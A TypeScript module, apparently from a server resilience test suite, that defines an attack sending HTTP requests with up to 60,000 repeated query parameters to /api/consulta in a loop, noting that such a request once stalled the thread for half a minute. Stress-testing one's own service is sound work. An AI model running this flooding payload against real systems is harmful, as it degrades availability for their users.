import { once } from 'node:events'
import type { Attack } from './attack.ts'
import { openConnection } from './open-connection.ts'

/** As many as an address may be long, and the 60,000 that once held the thread for half a minute. */
const counts = [4000, 30_000, 60_000]

/** One parameter again and again, in addresses of 8 kB to 120 kB. */
export const attack: Attack = {
  name: 'a query string of repeated parameters',
  async run(address, signal) {
    for (let at = 0; !signal.aborted; at++) {
      const socket = await openConnection(address, signal)
      const parameters = 'a&'.repeat(counts[at % counts.length]!)
      socket.end(`GET /api/consulta?${parameters} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`)
      if (!socket.closed) await once(socket, 'close').catch(() => {})
    }
  },
}
